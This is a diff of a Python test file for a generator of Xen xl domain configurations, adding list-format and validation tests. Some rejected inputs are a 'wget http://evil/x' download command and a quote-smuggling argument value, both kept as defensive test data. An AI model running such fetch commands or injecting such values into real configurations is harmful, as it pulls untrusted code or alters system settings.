@@ -149,6 +149,18 @@ def test_hvm_guest(tmp_path: Path) -> None:
     assert not any(line.startswith("bootloader") for line in cfg)
 
 
+def test_device_model_arguments_are_written_as_xl_lists(tmp_path: Path) -> None:
+    """xl.cfg(5)'s `device_model_args_hvm`: each argument its own string, in the profile's order."""
+    hvm = shipped("cagxen01")["software"]["components"]["xen"]["domains"][2]
+    args = ["-chardev", "file,id=s,path=/var/log/xen/s.log,append=on", "-serial", "chardev:s"]
+    configure(tmp_path, xen_tree(dict(hvm, disk=[], device_model_args_hvm=args)))
+    cfg = (tmp_path / "etc/xen/cagnode52.cfg").read_text().splitlines()
+    assert (
+        'device_model_args_hvm = [ "-chardev", "file,id=s,path=/var/log/xen/s.log,append=on", "-serial", "chardev:s" ]'
+        in cfg
+    )
+
+
 def test_domains_wait_for_xen_when_xl_is_not_there(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     ctx = configure(tmp_path, xen_tree(file_only(SEED), create_domains=True))
     assert (tmp_path / "etc/xen/cagnode50.cfg").exists()
@@ -166,6 +178,12 @@ def test_domains_wait_for_xen_when_xl_is_not_there(tmp_path: Path, capsys: pytes
         ({"download": ["wget http://evil/x"]}, "/software/components/xen/domains/0/download", "does not run commands"),
         ({"bootargs": "vif[3]"}, "/software/components/xen/domains/0/bootargs", "names a vif the domain does not have"),
         ({"on_crash": "explode"}, "/software/components/xen/domains/0/on_crash", "expected one of"),
+        ({"device_model_args": "-snapshot"}, "/software/components/xen/domains/0/device_model_args", "list of strings"),
+        (
+            {"device_model_args_hvm": ['-serial", "pty']},
+            "/software/components/xen/domains/0/device_model_args_hvm",
+            "quote",
+        ),
     ],
 )
 def test_bad_values_name_their_profile_path(tmp_path: Path, change: dict[str, Any], path: str, message: str) -> None:
